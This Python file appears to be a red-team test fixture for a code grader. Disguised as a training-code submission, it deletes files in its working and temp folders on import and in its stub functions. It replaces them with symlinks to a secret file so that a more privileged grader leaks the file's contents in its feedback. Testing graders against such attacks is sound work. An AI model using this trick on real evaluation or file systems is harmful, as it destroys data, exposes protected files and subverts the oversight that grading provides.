"""Red-team fixture: replaces the files of its working folder (where a grader may collect its
printed output) with a symbolic link to a file it cannot read itself, hoping that the grader,
reading it afterwards with more rights, prints that file in the feedback.

The test writes ``hostile_paths.py`` (SECRET_FILE) next to this file.
"""
import os

from hostile_paths import SECRET_FILE


def _swap_for_link():
    print("about to swap my output file")
    for folder in {os.getcwd(), os.environ.get("TMPDIR", os.getcwd())}:
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        for name in names + ["output.txt"]:
            path = os.path.join(folder, name)
            try:
                if os.path.isdir(path) and not os.path.islink(path):
                    continue
                if os.path.lexists(path):
                    os.unlink(path)
                os.symlink(SECRET_FILE, path)
            except OSError:
                pass


_swap_for_link()


def step_argument(batch_size, mean):
    _swap_for_link()
    return 0


def train_step(net, trainer, loss, X, y):
    _swap_for_link()
    raise NotImplementedError
